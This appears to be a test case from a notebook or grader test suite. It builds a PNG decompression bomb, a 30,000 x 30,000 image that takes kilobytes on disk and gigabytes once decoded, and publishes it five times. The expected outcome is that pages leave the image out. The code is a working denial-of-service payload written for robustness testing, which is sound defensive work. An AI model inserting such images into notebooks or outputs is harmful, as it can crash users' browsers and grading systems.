# Shows pictures of 30,000 x 30,000 points, which take kilobytes in a file and gigabytes in a browser.
# family: bombs in the grader
# after: The pages say that there was a picture, and leave it out.

# %% own
import base64, struct, zlib
from IPython import get_ipython
def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
head = struct.pack(">IIBBBBB", 30_000, 30_000, 1, 0, 0, 0, 0)
bomb = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(3751 * 30_000))) + chunk(b"IEND", b"")
for _ in range(5):
    get_ipython().display_pub.publish({"image/png": base64.b64encode(bomb).decode(), "text/plain": "x"})
